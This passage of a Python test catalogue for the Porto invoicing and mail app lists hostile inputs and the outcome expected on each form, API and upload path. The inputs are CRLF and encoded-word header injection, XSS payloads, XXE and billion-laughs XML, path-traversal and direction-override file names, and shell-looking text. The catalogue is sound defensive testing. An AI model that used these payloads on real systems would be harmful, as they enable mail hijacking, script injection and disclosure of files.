"""Every hostile input Porto is tried with, in one list, and where each one is tried.

An entry is a kind of attack (or of ordinary text that merely looks like one): its value (or
a builder, for large values), and its uses: on which path, in which field, with which
expected outcome. Each path has one parametrised test in ``tests/hostile/test_<path>.py``
that walks ``cases(path)``:

- ``Refused(fragment)``: the path answers with a clear error containing ``fragment`` (for the
  API and the webhooks also a stable ``code``), under the field, and nothing is stored,
  queued or sent;
- ``Neutralised(check)``: accepted, but made harmless; ``check`` names what the path's test
  verifies (e.g. ``"escaped"``: the HTML part holds the text escaped, never as markup);
- ``Accepted()``: ordinary text that only looks like code, stored exactly as typed.

An upload's value is a tuple of ``File``s (name as the browser sends it, bytes or a builder);
a message to the sandbox mail server is a ``Mail`` (its raw bytes, and what the inbox shows).

To add a case: append an entry here with its uses; the path's test picks it up. To add a
path: add its name to ``PATHS`` and write ``test_<path>.py`` over ``cases(path)``.
``tests/hostile/test_catalogue.py`` checks that every use names a known path, and prints the
count per path and outcome (``docs/reliability.md`` quotes it).
"""

import base64
import io
import zipfile
from collections.abc import Callable
from dataclasses import dataclass
from urllib.parse import quote

import pytest

from porto.lib.text import MAX_BODY_CHARS
from porto.mail.send.limits import MAX_UPLOAD_BYTES
from tests.pdfs import (
    pdf_encrypted,
    pdf_of_size,
    pdf_with_embedded_file,
    pdf_with_javascript,
    pdf_with_launch,
    pdf_with_open_action_script,
    plain_pdf,
)

PATHS = {
    "rules": "porto.lib.text and porto.lib.identifiers: the character rules every form uses",
    "popup": "the send pop-up, through the real view (POST, JSON answer)",
    "send_html": "an HTML body given to the send path (email texts and integrations)",
    "settings": "Settings > Email settings (options and sending method forms)",
    "texts": "Settings > Email texts, the editor",
    "client": "the client form (new client)",
    "document": "the document editor (new invoice)",
    "api": "the REST API, JSON bodies (clients and sending)",
    "webhook": "provider webhooks, the real ingestion view",
    "command": "management commands: validate_ubl, send_document",
    "search": "the overview's search (and a bulk send of its results)",
    "upload": "attached files: the send pop-up's upload and the API's multipart send",
    "sandbox": "the sandbox mail server over real SMTP, then its inbox pages",
}


@dataclass(frozen=True)
class Refused:
    fragment: str
    code: str = ""  # the stable error code where the path has one (API, webhooks)
    # The words of each further message, in order, when one input earns several (an upload
    # of several bad files: one message per file).
    also: tuple[str, ...] = ()


@dataclass(frozen=True)
class Neutralised:
    check: str  # what the path's test verifies; each path documents its checks


@dataclass(frozen=True)
class Accepted:
    """Stored (or sent) exactly as typed."""


Outcome = Refused | Neutralised | Accepted


@dataclass(frozen=True)
class Use:
    path: str
    field: str
    outcome: Outcome


@dataclass(frozen=True)
class Hostile:
    id: str
    description: str
    value: object  # or a Callable[[], object] building it (large values)
    uses: tuple[Use, ...]

    def built(self) -> object:
        return self.value() if callable(self.value) else self.value


@dataclass(frozen=True)
class File:
    """One file of an upload: its name as the browser sends it, its bytes (or a builder), and
    the name the recipient reads when Porto changes it (folders dropped, encoded word read)."""

    name: str
    content: bytes | Callable[[], bytes]
    reads_as: str = ""

    def built(self) -> bytes:
        return self.content() if callable(self.content) else self.content


@dataclass(frozen=True)
class Mail:
    """A message as a client hands it to the sandbox mail server (without the company header,
    which the test adds), and the text the inbox must show for it, escaped."""

    raw: bytes | Callable[[], bytes]
    shows: str = ""
    attachment_names: tuple[str, ...] = ()  # as the inbox lists them

    def built(self) -> bytes:
        return self.raw() if callable(self.raw) else self.raw


def control(field: str, char: str) -> str:
    return (
        f"The field “{field}” contains an invisible control character (U+{ord(char):04X}): remove "
        "it, for example by typing the text again instead of pasting it."
    )


def one_line(field: str) -> str:
    return f"The field “{field}” must be on one line: remove the line break."


def direction(field: str, char: str) -> str:
    return (
        f"The field “{field}” contains an invisible character that changes the reading direction "
        f"(U+{ord(char):04X}): remove it, so the text reads as it is stored."
    )


SUBJECT_CONTROL = "The subject contains a line break or another control character"
SUBJECT_ENCODED = "The subject contains an encoded word (“=?…?=”) that hides"
TEXT_SUBJECT = (
    "The subject contains a control character, or an encoded word (“=?…?=”) that hides one: "
    "write it as plain text on one line."
)
TEXT_SUBJECT_ONE_LINE = "The subject must be on one line."
RECIPIENT_BREAK = "contains a line break or a control character: give one address per entry."
HTML_UNSAFE = "emails cannot run scripts or embed pages. Remove them and send again."
SENDER_LOOKS_LIKE_ADDRESS = "looks like an email address: write a name"
LONG_LOCAL = "f" * 65 + "@acme.example"
LOCAL_TOO_LONG = "the part before the @ has 65 characters, and mail servers accept at most 64."
# 64 + 1 + 255 = 320 characters: the longest address anyone writes, longer than SMTP allows
# (RFC 5321: 254 in a path). Every label of the domain is 63 characters.
ADDRESS_320 = "a" * 64 + "@" + ".".join(["b" * 63] * 3) + "." + "c" * 55 + ".example"
XXE_CANARY = "porto-xxe-canary-4f1c"
NO_FILE_NAME = "has no name: give it a name and attach it again."
FILE_NAME_DIRECTION = (
    "The file name invoicefdp.exe holds an invisible character that changes the reading "
    "direction (U+202E), so it reads otherwise than it is: rename the file and attach it again."
)
EVIL_EXE = "evil.exe cannot be attached: .exe files can run programs or scripts."
PDF_CUT_OFF = (
    "scan.pdf is cut off: its end is missing, so it cannot be opened. Download or export it "
    "again and attach the new file."
)
PDF_PASSWORD = (
    "salaris.pdf opens only with a password, so Porto cannot check it and your client could "
    "not read it without the password. Save it without a password and attach it again."
)
PLAN_TOO_LARGE = "plan.pdf is 7.00 MB; an attachment can be at most 5 MB."
UPLOAD_TOO_LARGE = (
    "The files you attached add up to more than 26 MB, more than an email can carry: attach "
    "fewer or smaller files, or send them in separate emails."
)
SCRIPT_MARK = "<script>alert('porto')</script>"
# What a script of an HTML body does if it runs: a mark a real browser can read on the page.
RAN = "document.body.dataset.ran='%s'"
HANDLER_MARK = "<img src=x onerror=alert(1)>"
# (name in the message, name the inbox shows): folders, controls and direction marks dropped.
ATTACHMENT_NAMES = [
    ("../../.ssh/authorized_keys", "authorized_keys"),
    ("..\\..\\Windows\\evil.exe", "evil.exe"),
    ("invoice\u202efdp.exe", "invoicefdp.exe"),
]
SANDBOX_TEST_LIMIT = 256 * 1024  # the size limit of the sandbox server the tests start


def _recipients(count: int) -> list[str]:
    return [f"klant{i}@cafe-elysee.example" for i in range(count)]


def _deep_json(depth: int) -> bytes:
    return b'{"a":' * depth + b"1" + b"}" * depth


CATALOGUE: list[Hostile] = [
    # --- Header injection: line breaks, encoded words, folded lines -------------------------
    Hostile(
        "crlf-header",
        "CR LF followed by a header: the classic header injection",
        "Factuur\r\nBcc: all@evil.example",
        (
            Use("popup", "subject", Refused(SUBJECT_CONTROL)),
            Use("popup", "to", Refused(RECIPIENT_BREAK)),
            Use("popup", "cc", Refused(RECIPIENT_BREAK)),
            Use("texts", "subject", Refused(TEXT_SUBJECT_ONE_LINE)),
            Use("client", "name", Refused(one_line("name"))),
            Use("document", "lines-0-name", Refused("Line 1: " + one_line("item"))),
            Use("api", "subject", Refused(SUBJECT_CONTROL, "invalid")),
            Use("api", "name", Refused(one_line("name"))),
            Use("settings", "reply_to", Refused(RECIPIENT_BREAK)),
            Use("client", "address", Refused("is not a valid email address")),
        ),
    ),
    Hostile(
        "lf-header",
        "a bare LF followed by a header (servers that accept bare LF as a line end)",
        "Factuur\nBcc: all@evil.example",
        (
            Use("popup", "subject", Refused(SUBJECT_CONTROL)),
            Use("settings", "sender_name", Refused(one_line("sender name"))),
            Use("rules", "single_line", Refused(one_line("name"))),
        ),
    ),
    Hostile(
        "folded-header",
        "a folded line (CR LF then a tab): a continuation that smuggles text into the header",
        "Factuur 2026-00042\r\n\tBcc: all@evil.example",
        (
            Use("popup", "subject", Refused(SUBJECT_CONTROL)),
            Use("texts", "subject", Refused(TEXT_SUBJECT_ONE_LINE)),
            Use("settings", "sender_name", Refused(one_line("sender name"))),
        ),
    ),
    Hostile(
        "encoded-word-crlf-q",
        "an RFC 2047 encoded word (Q) that decodes to CR LF and a header",
        "=?utf-8?q?Factuur=0D=0ABcc:_all@evil.example?=",
        (
            Use("popup", "subject", Refused(SUBJECT_ENCODED)),
            Use("texts", "subject", Refused(TEXT_SUBJECT)),
            Use("api", "subject", Refused(SUBJECT_ENCODED, "invalid")),
            Use("settings", "reply_to", Refused(RECIPIENT_BREAK)),
        ),
    ),
    Hostile(
        "encoded-word-in-sender-name",
        "an encoded word hiding CR LF in the sender name",
        "=?utf-8?q?Acme=0D=0ABcc:_boekhouding?=",
        (
            Use(
                "settings",
                "sender_name",
                Refused(
                    "The sender name contains an encoded word (“=?…?=”) that hides a line break"
                ),
            ),
        ),
    ),
    Hostile(
        "plain-encoded-word-in-sender-name",
        "an encoded word of plain text in the sender name: sent as the literal text typed",
        "=?utf-8?q?Acme_BV?=",
        (
            Use("settings", "sender_name", Neutralised("encoded as text")),
            Use("rules", "sender_name", Accepted()),
        ),
    ),
    Hostile(
        "encoded-word-crlf-b",
        "an RFC 2047 encoded word (base64) that decodes to CR LF and a header",
        "=?utf-8?b?RmFjdHV1cg0KQmNjOiBhbGxAZXZpbC5leGFtcGxl?=",
        (Use("popup", "subject", Refused(SUBJECT_ENCODED)),),
    ),
    Hostile(
        "encoded-word-in-name",
        "an encoded word hiding CR LF in a recipient's display name",
        "=?utf-8?q?Jan=0D=0ABcc:_all@evil.example?= <jan@cafe-elysee.example>",
        (Use("popup", "to", Refused(RECIPIENT_BREAK)),),
    ),
    Hostile(
        "crlf-in-display-name",
        "CR LF in a recipient's display name",
        "Jan\r\nBcc: all@evil.example <jan@cafe-elysee.example>",
        (
            Use("popup", "to", Refused(RECIPIENT_BREAK)),
            Use("api", "to", Refused(RECIPIENT_BREAK, "invalid")),
        ),
    ),
    Hostile(
        "unicode-line-separator",
        "U+2028, a line separator some readers show as a line break",
        "Kerkstraat\u2028 1",
        (
            Use("client", "street", Refused(one_line("street and number"))),
            Use("settings", "sender_name", Refused(one_line("sender name"))),
            Use("rules", "single_line", Refused(one_line("name"))),
            Use("rules", "multi_line", Refused(control("description", "\u2028"))),
        ),
    ),
    # --- Invisible controls and reading-direction overrides ---------------------------------
    Hostile(
        "ansi-escape",
        "an ANSI escape sequence (clears or colours a terminal reading the logs)",
        "Acme\x1b[2J BV",
        (
            Use("client", "name", Refused(control("name", "\x1b"))),
            Use("document", "lines-0-name", Refused("Line 1: " + control("item", "\x1b"))),
            Use("popup", "body", Refused(control("message", "\x1b"))),
            Use("texts", "body", Refused(control("body", "\x1b"))),
            Use("rules", "single_line", Refused(control("name", "\x1b"))),
            Use("rules", "multi_line", Refused(control("description", "\x1b"))),
            Use("api", "body", Refused(control("message", "\x1b"), "invalid")),
        ),
    ),
    Hostile(
        "bell",
        "a BEL character",
        "Bonjour\x07",
        (
            Use("popup", "body", Refused(control("message", "\x07"))),
            Use("texts", "subject", Refused(TEXT_SUBJECT)),
            Use("settings", "sender_name", Refused(control("sender name", "\x07"))),
            Use("document", "note", Refused(control("note", "\x07"))),
            Use(
                "document",
                "lines-0-description",
                Refused("Line 1: " + control("description", "\x07")),
            ),
            Use("rules", "single_line", Refused(control("name", "\x07"))),
            Use("rules", "multi_line", Refused(control("description", "\x07"))),
        ),
    ),
    Hostile(
        "nul",
        "a NUL character (PostgreSQL cannot store it)",
        "Acme\x00BV",
        (
            Use("client", "name", Refused("Null characters are not allowed.")),
            Use("rules", "single_line", Refused(control("name", "\x00"))),
            Use("rules", "multi_line", Refused(control("description", "\x00"))),
        ),
    ),
    Hostile(
        "c1-csi",
        "a C1 control (U+009B, CSI: an escape sequence in one character)",
        "Acme\x9bBV",
        (
            Use("client", "name", Refused(control("name", "\x9b"))),
            Use("popup", "body", Refused(control("message", "\x9b"))),
            Use("rules", "single_line", Refused(control("name", "\x9b"))),
        ),
    ),
    Hostile(
        "next-line",
        "U+0085, NEXT LINE: a line break in a single-line field, a control in a text",
        "Work\x85done",
        (
            Use(
                "document",
                "lines-0-description",
                Refused("Line 1: " + control("description", "\x85")),
            ),
            Use("rules", "single_line", Refused(one_line("name"))),
            Use("rules", "multi_line", Refused(control("description", "\x85"))),
        ),
    ),
    Hostile(
        "tab-in-single-line",
        "a tab in a one-line field",
        "Jan\tPeeters",
        (
            Use("client", "contact_name", Refused(control("for the attention of", "\t"))),
            Use("rules", "single_line", Refused(control("name", "\t"))),
        ),
    ),
    Hostile(
        "right-to-left-override",
        "U+202E: shows “Invoice\u202egpj.exe” as a harmless name",
        "Invoice\u202egpj.exe",
        (
            Use("client", "city", Refused(direction("city", "\u202e"))),
            Use("document", "lines-0-name", Refused("Line 1: " + direction("item", "\u202e"))),
            Use("texts", "body", Refused(direction("body", "\u202e"))),
            Use("rules", "single_line", Refused(direction("name", "\u202e"))),
            Use("rules", "multi_line", Refused(direction("description", "\u202e"))),
        ),
    ),
    Hostile(
        "isolate",
        "U+2066, a direction isolate",
        "Day one\u2066 and two",
        (
            Use(
                "document",
                "lines-0-description",
                Refused("Line 1: " + direction("description", "\u2066")),
            ),
            Use("rules", "multi_line", Refused(direction("description", "\u2066"))),
        ),
    ),
    # --- Addresses ---------------------------------------------------------------------------
    Hostile(
        "quoted-local-part",
        "a quoted local part with an escaped quote",
        '"jan\\"peeters"@cafe-elysee.example',
        (Use("popup", "to", Refused("Quoting the part before the @-sign is not allowed here.")),),
    ),
    Hostile(
        "quoted-display-name-with-comma",
        "a quoted display name with a comma: one recipient, not two",
        '"Peeters, Jan" <jan@cafe-elysee.example>',
        (Use("popup", "to", Accepted()), Use("api", "to", Accepted())),
    ),
    Hostile(
        "display-name-that-is-an-address",
        "a display name that is another address (a phishing look)",
        '"ceo@acme.example" <jan@cafe-elysee.example>',
        (Use("popup", "to", Accepted()),),
    ),
    Hostile(
        "idn-domain",
        "an internationalised domain name",
        "jan@bäcker.example",
        (Use("popup", "to", Accepted()), Use("client", "address", Accepted())),
    ),
    Hostile(
        "unicode-local-part",
        "a non-ASCII local part (SMTPUTF8)",
        "jän@backer.example",
        (Use("popup", "to", Accepted()),),
    ),
    Hostile(
        "address-320-characters",
        "an address of 320 characters (64 + @ + 255), longer than SMTP allows",
        ADDRESS_320,
        (
            Use("popup", "to", Refused("is not a valid email address")),
            Use("settings", "reply_to", Refused("has at most 254 characters (it has 320)")),
            Use("client", "address", Refused("has at most 254 characters (it has 320)")),
        ),
    ),
    Hostile(
        "local-part-65",
        "a local part of 65 characters",
        LONG_LOCAL,
        (
            Use("settings", "reply_to", Refused(LOCAL_TOO_LONG)),
            Use("settings", "smtp_from_address", Refused(LOCAL_TOO_LONG)),
            Use("rules", "address", Refused(LOCAL_TOO_LONG)),
        ),
    ),
    Hostile(
        "local-part-64",
        "a local part of 64 characters, the longest allowed",
        "f" * 64 + "@acme.example",
        (Use("settings", "reply_to", Accepted()), Use("rules", "address", Accepted())),
    ),
    Hostile(
        "display-name-208",
        "a display name longer than an email can store",
        ("Comptabilité " * 16) + "<compta@cafe-elysee.example>",
        (Use("popup", "to", Refused("has 207 characters; keep it under 200")),),
    ),
    Hostile(
        "display-name-200",
        "a display name of 200 characters, the longest an email stores",
        "C" * 200 + " <compta@cafe-elysee.example>",
        (Use("popup", "to", Accepted()),),
    ),
    Hostile(
        "500-recipients",
        "500 recipients in To",
        lambda: _recipients(500),
        (
            Use(
                "popup", "to", Refused("An email can have at most 50 recipients; this one has 500.")
            ),
            Use("api", "to", Refused("An email can have at most 50 recipients", "invalid")),
            Use("command", "send_document --to", Refused("An email can have at most 50")),
        ),
    ),
    Hostile(
        "sender-name-address",
        "a sender name that is an address",
        "billing@kbc.example",
        (
            Use("settings", "sender_name", Refused(SENDER_LOOKS_LIKE_ADDRESS)),
            Use("rules", "sender_name", Refused(SENDER_LOOKS_LIKE_ADDRESS)),
        ),
    ),
    Hostile(
        "sender-name-with-angle-address",
        "a sender name with an address in angle brackets",
        "KBC Facturatie <billing@kbc.example>",
        (
            Use("settings", "sender_name", Refused(SENDER_LOOKS_LIKE_ADDRESS)),
            Use("rules", "sender_name", Refused(SENDER_LOOKS_LIKE_ADDRESS)),
        ),
    ),
    Hostile(
        "sender-name-quoted-address",
        "a sender name that is a quoted address",
        '"billing@kbc.example"',
        (Use("rules", "sender_name", Refused(SENDER_LOOKS_LIKE_ADDRESS)),),
    ),
    Hostile(
        "sender-name-with-at",
        "a name with an @ that is no address",
        "Bakkerij @ de Markt",
        (Use("settings", "sender_name", Accepted()), Use("rules", "sender_name", Accepted())),
    ),
    # --- HTML and script ---------------------------------------------------------------------
    Hostile(
        "script-tag",
        "a script element",
        "<p>Bonjour</p><script>alert(document.cookie)</script>",
        (
            Use("send_html", "body_html", Refused("<script>: " + HTML_UNSAFE)),
            Use("popup", "body", Neutralised("escaped")),
            Use("texts", "body", Neutralised("escaped")),
            Use("client", "name", Neutralised("escaped")),
        ),
    ),
    Hostile(
        "event-handler",
        "an event handler attribute",
        '<img src="logo.png" onerror="alert(1)">',
        (
            Use("send_html", "body_html", Refused("onerror attributes: " + HTML_UNSAFE)),
            Use("popup", "body", Neutralised("escaped")),
        ),
    ),
    Hostile(
        "svg-handler",
        "an SVG animation with an event handler",
        '<svg><animate onbegin="alert(1)" attributeName="x"/></svg>',
        (Use("send_html", "body_html", Refused("onbegin attributes: " + HTML_UNSAFE)),),
    ),
    Hostile(
        "javascript-link",
        "a javascript: link",
        '<a href="javascript:alert(1)">Betalen</a>',
        (Use("send_html", "body_html", Refused("javascript: links: " + HTML_UNSAFE)),),
    ),
    Hostile(
        "javascript-link-entities",
        "a javascript: link hidden with character references and a tab",
        '<a href="&#106;ava&#x09;script:alert(1)">Betalen</a>',
        (Use("send_html", "body_html", Refused("javascript: links: " + HTML_UNSAFE)),),
    ),
    Hostile(
        "javascript-in-style",
        "a javascript: URL in a style attribute",
        '<p style="background:url(javascript:alert(1))">Factuur</p>',
        (Use("send_html", "body_html", Refused("javascript: links: " + HTML_UNSAFE)),),
    ),
    Hostile(
        "iframe",
        "an iframe",
        '<iframe src="https://evil.example/"></iframe>',
        (Use("send_html", "body_html", Refused("<iframe>: " + HTML_UNSAFE)),),
    ),
    Hostile(
        "control-in-html",
        "an escape character in an HTML body",
        "<p>Bonjour\x1b[31m</p>",
        (Use("send_html", "body_html", Refused(control("message", "\x1b"))),),
    ),
    Hostile(
        "html-that-talks-about-script",
        "an HTML body that writes about scripts as text",
        "<p>Use &lt;script&gt; only in <b>your</b> shop, not in mails.</p>",
        (Use("send_html", "body_html", Accepted()),),
    ),
    # --- Ordinary text that looks like code ---------------------------------------------------
    Hostile(
        "template-syntax",
        "other template languages' syntax",
        "Uw code: ${7*7} / #{7*7} / <%= 7*7 %> / {{7*7}}",
        (
            Use("texts", "body", Accepted()),
            Use("popup", "body", Accepted()),
            Use("popup", "subject", Accepted()),
            Use("client", "name", Accepted()),
        ),
    ),
    Hostile(
        "sql-looking",
        "text that looks like SQL",
        "O'Brien; DROP TABLE clients;--",
        (
            Use("client", "name", Accepted()),
            Use("document", "lines-0-name", Accepted()),
            Use("popup", "subject", Accepted()),
            Use("api", "name", Accepted()),
        ),
    ),
    Hostile(
        "shell-looking",
        "text that looks like a shell command",
        "Backup `rm -rf /` $(id) && echo ok | mail",
        (
            Use("document", "lines-0-description", Accepted()),
            Use("popup", "body", Accepted()),
            Use("texts", "body", Accepted()),
        ),
    ),
    Hostile(
        "accents-and-scripts",
        "accents, punctuation, emoji, Hebrew and Arabic",
        "Société « L'Écluse » & Fils — 12,5 % € ☕ עברית العربية",
        (
            Use("client", "name", Accepted()),
            Use("rules", "single_line", Accepted()),
            Use("rules", "multi_line", Accepted()),
            Use("settings", "sender_name", Accepted()),
            Use("api", "name", Accepted()),
        ),
    ),
    Hostile(
        "line-breaks-and-tabs-in-a-text",
        "line breaks (CR LF and LF) and tabs where a text may have them",
        "Dag 1:\tanalyse\r\nDag 2:\tbouw\nKlaar",
        (
            Use("rules", "multi_line", Accepted()),
            Use("document", "lines-0-description", Accepted()),
            Use("texts", "body", Accepted()),
            Use("popup", "body", Accepted()),
        ),
    ),
    # --- Sizes -------------------------------------------------------------------------------
    Hostile(
        "body-over-the-limit",
        "a body one character over the one limit every email has",
        lambda: "x" * (MAX_BODY_CHARS + 1),
        (
            Use("popup", "body", Refused(f"it can have at most {MAX_BODY_CHARS}")),
            Use("texts", "body", Refused("20,001 characters long; the limit is 20,000")),
            Use("api", "body", Refused(f"it can have at most {MAX_BODY_CHARS}", "invalid")),
        ),
    ),
    Hostile(
        "body-100-kb",
        "a 100 KB body",
        lambda: "x" * 100 * 1024,
        (Use("popup", "body", Refused(f"The message has {100 * 1024} characters")),),
    ),
    Hostile(
        "json-announced-50-mb",
        "a JSON body announced (Content-Length) as 50 MB: refused before a byte is read",
        50 * 1024 * 1024,
        (
            Use("api", "body size", Refused("this endpoint accepts at most", "payload_too_large")),
            Use("webhook", "body size", Refused("The body is larger than")),
        ),
    ),
    Hostile(
        "json-over-the-limit",
        "a real JSON body just over the limit",
        lambda: b'{"pad": "' + b"x" * (1024 * 1024) + b'"}',
        (
            Use("api", "body", Refused("this endpoint accepts at most", "payload_too_large")),
            Use("webhook", "body", Refused("The body is larger than")),
        ),
    ),
    Hostile(
        "multipart-announced-200-mb",
        "a multipart send announced as 200 MB",
        200 * 1024 * 1024,
        (
            Use(
                "api",
                "multipart size",
                Refused("this endpoint accepts at most", "payload_too_large"),
            ),
            Use(
                "popup",
                "request size",
                Refused(
                    "The files you attached add up to more than 26 MB, more than an email can "
                    "carry: attach fewer or smaller files, or send them in separate emails."
                ),
            ),
        ),
    ),
    # --- Malformed bodies and XML ------------------------------------------------------------
    Hostile(
        "malformed-json",
        "a JSON body cut in the middle",
        b'{"to": ["a@b.example"], "subject": "Fac',
        (
            Use("api", "body", Refused("is not valid JSON", "malformed_json")),
            Use("webhook", "body", Refused("is not valid JSON")),
        ),
    ),
    Hostile(
        "json-nested-deep",
        "JSON nested 100 000 levels deep (a RecursionError in a naive parser)",
        lambda: _deep_json(100_000),
        (Use("webhook", "body", Refused("nested too deeply")),),
    ),
    Hostile(
        "json-nan",
        "NaN, which is no JSON number",
        b'{"RecordType": "Delivery", "MessageID": "x", "n": NaN}',
        (Use("webhook", "body", Refused("NaN, which is not a JSON number")),),
    ),
    Hostile(
        "json-nul",
        "a NUL byte in the body",
        b'{"RecordType": "Delivery", "MessageID": "a\x00b"}',
        (Use("webhook", "body", Refused("NUL byte")),),
    ),
    Hostile(
        "not-utf8",
        "bytes that are not UTF-8",
        b'{"RecordType": "\xff\xfe"}',
        (Use("webhook", "body", Refused("not UTF-8")),),
    ),
    Hostile(
        "xml-external-entity",
        "XML with an external entity, posted where JSON is expected, or read by validate_ubl",
        """<?xml version="1.0"?>
<!DOCTYPE Invoice [<!ENTITY secret SYSTEM "file://{path}">]>
<Invoice xmlns="urn:oasis:names:specification:ubl:schema:xsd:Invoice-2"
         xmlns:cbc="urn:oasis:names:specification:ubl:schema:xsd:CommonBasicComponents-2">
  <cbc:CustomizationID>urn:cen.eu:en16931:2017</cbc:CustomizationID>
  <cbc:ID>&secret;</cbc:ID>
</Invoice>
""",
        (
            Use("command", "validate_ubl", Refused("refused: external entities")),
            Use("webhook", "body", Refused("is not valid JSON")),
            Use("api", "body", Refused("is not valid JSON", "malformed_json")),
        ),
    ),
    Hostile(
        "xml-parameter-entity",
        "XML with an external parameter entity (the out-of-band XXE)",
        """<?xml version="1.0"?>
<!DOCTYPE Invoice [<!ENTITY % remote SYSTEM "file://{path}"> %remote;]>
<Invoice xmlns="urn:oasis:names:specification:ubl:schema:xsd:Invoice-2"/>
""",
        (Use("command", "validate_ubl", Refused("refused: external entities")),),
    ),
    Hostile(
        "xml-external-dtd",
        "XML naming an external DTD, which could define entities out of sight",
        """<?xml version="1.0"?>
<!DOCTYPE Invoice SYSTEM "file://{path}">
<Invoice xmlns="urn:oasis:names:specification:ubl:schema:xsd:Invoice-2"/>
""",
        (
            Use(
                "command",
                "validate_ubl",
                Refused("refused: an external document type (a UBL file has none)"),
            ),
        ),
    ),
    Hostile(
        "xml-billion-laughs",
        "XML with nested internal entities (billion laughs)",
        """<?xml version="1.0"?>
<!DOCTYPE Invoice [
  <!ENTITY lol "lol">
  <!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
  <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
]>
<Invoice xmlns="urn:oasis:names:specification:ubl:schema:xsd:Invoice-2">&lol3;</Invoice>
""",
        (
            Use(
                "command",
                "validate_ubl",
                Refused("refused: entity declarations (a UBL file has none)"),
            ),
            Use("webhook", "body", Refused("is not valid JSON")),
        ),
    ),
    # --- Searches ------------------------------------------------------------------------------
    Hostile(
        "search-nul",
        "a NUL in a search (PostgreSQL refuses it in a query)",
        "pee\x00ters",
        (Use("search", "q", Neutralised("ignored")),),
    ),
    Hostile(
        "search-controls",
        "escape, bell and C1 characters in a search",
        "\x1bpee\x07ters\x9b",
        (Use("search", "q", Neutralised("ignored")),),
    ),
    Hostile(
        "search-overlong",
        "a search of 5 000 characters",
        lambda: "peeters" + "x" * 5000,
        (Use("search", "q", Neutralised("cut")),),
    ),
    Hostile(
        "search-sql-like",
        "a search with SQL LIKE wildcards and a quote",
        "%' OR 1=1 --_",
        (Use("search", "q", Accepted()),),
    ),
    # --- Numbers and identifiers -------------------------------------------------------------
    Hostile(
        "negative-zero-quantity",
        "a quantity of -0",
        "-0",
        (
            Use(
                "document",
                "lines-0-quantity",
                Refused("Line 1: Quantity 0 (typed as -0): give a quantity, or remove the line."),
            ),
        ),
    ),
    Hostile(
        "unknown-document-number",
        "a document number that does not exist, with a quote and a line break",
        "2026-00042'\nDROP",
        (Use("command", "send_document number", Refused("No document has the number")),),
    ),
    # --- Attachments: file names -------------------------------------------------------------
    *[
        Hostile(
            f"file-name-{kind}",
            f"a file name with {what}: the recipient reads the file's own name",
            (File(name, plain_pdf, reads_as="offerte.pdf"),),
            (
                Use("upload", "attachments", Neutralised("folders dropped")),
                Use("upload", "api", Neutralised("folders dropped")),
            ),
        )
        for kind, what, name in [
            ("slashes", "parent folders (../)", "../../etc/offerte.pdf"),
            ("backslashes", "Windows folders", "C:\\Users\\jan\\Documents\\offerte.pdf"),
            ("absolute", "an absolute path", "/home/jan/offerte.pdf"),
        ]
    ],
    Hostile(
        "file-name-dots",
        "a file name that is only “..”: a folder, not a name",
        (File("..", plain_pdf),),
        (Use("upload", "attachments", Refused(NO_FILE_NAME, "attachment_name_invalid")),),
    ),
    Hostile(
        "file-name-empty",
        "a file with an empty name (a script's upload, not a browser's)",
        (File("", b"x" * 2048),),
        (
            Use("upload", "attachments", Refused("A file of 2 KB has no name: give it a name")),
            Use("upload", "api", Refused(NO_FILE_NAME, "attachment_name_invalid")),
        ),
    ),
    Hostile(
        "file-name-300-characters",
        "a file name of 300 characters",
        (File("a" * 296 + ".pdf", plain_pdf),),
        (
            Use(
                "upload",
                "attachments",
                Refused("has 300 characters; rename the file to at most 200"),
            ),
        ),
    ),
    Hostile(
        "file-name-direction-override",
        "U+202E in a file name: “invoice\u202efdp.exe” shows as invoiceexe.pdf",
        (File("invoice\u202efdp.exe", plain_pdf),),
        (
            Use("upload", "attachments", Refused(FILE_NAME_DIRECTION)),
            Use("upload", "api", Refused(FILE_NAME_DIRECTION, "attachment_name_invalid")),
        ),
    ),
    Hostile(
        "file-name-control",
        "a BEL character in a file name",
        (File("offer\x07te.pdf", plain_pdf),),
        (
            Use(
                "upload",
                "attachments",
                Refused(
                    "The file name offerte.pdf holds an invisible control character (U+0007): "
                    "rename the file and attach it again."
                ),
            ),
        ),
    ),
    Hostile(
        "file-name-encoded-word-program",
        "an encoded word (base64) that reads evil.exe",
        (File("=?utf-8?b?ZXZpbC5leGU=?=", plain_pdf),),
        (
            Use("upload", "attachments", Refused(EVIL_EXE)),
            Use("upload", "api", Refused(EVIL_EXE, "attachment_type_refused")),
        ),
    ),
    Hostile(
        "file-name-encoded-word-before-pdf",
        "an encoded word (Q) hiding .exe before the .pdf",
        (File("=?utf-8?q?evil.exe?=.pdf", plain_pdf),),
        (
            Use(
                "upload",
                "attachments",
                Refused("evil.exe.pdf cannot be attached: .exe files can run programs or scripts."),
            ),
        ),
    ),
    Hostile(
        "file-name-encoded-line-break",
        "an encoded word hiding CR LF and a header in a file name",
        (File("=?utf-8?q?a=0D=0ABcc:_x@y.example?=.pdf", plain_pdf),),
        (Use("upload", "attachments", Refused("holds an invisible control character (U+000D)")),),
    ),
    Hostile(
        "file-name-encoded-word-broken",
        "an encoded word that cannot be decoded",
        (File("=?utf-8?b?ZXZpbC5le?=.pdf", plain_pdf),),
        (Use("upload", "attachments", Refused("(“=?…?=”) that cannot be read: rename the file")),),
    ),
    Hostile(
        "file-name-encoded-word-plain",
        "an encoded word of plain text in a file name: sent as the name it reads",
        (File("=?utf-8?q?offerte_caf=C3=A9?=.pdf", plain_pdf, reads_as="offerte café.pdf"),),
        (Use("upload", "attachments", Neutralised("encoded word read")),),
    ),
    Hostile(
        "file-name-program-before-last-extension",
        "a program's extension hidden before the last one",
        (File("factuur.pdf.exe.pdf", plain_pdf),),
        (
            Use(
                "upload",
                "attachments",
                Refused(
                    "factuur.pdf.exe.pdf cannot be attached: .exe files can run programs or "
                    "scripts."
                ),
            ),
        ),
    ),
    # --- Attachments: contents ----------------------------------------------------------------
    Hostile(
        "file-zip-renamed-pdf",
        "a ZIP archive holding a program, renamed .pdf",
        (File("invoice.pdf", lambda: _zip_with_program()),),
        (
            Use("upload", "attachments", Refused("invoice.pdf is a ZIP archive")),
            Use(
                "upload", "api", Refused("invoice.pdf is a ZIP archive", "attachment_type_refused")
            ),
        ),
    ),
    Hostile(
        "file-program-renamed-pdf",
        "a Windows program renamed .pdf",
        (File("invoice.pdf", b"MZ\x90\x00" + b"\x00" * 60),),
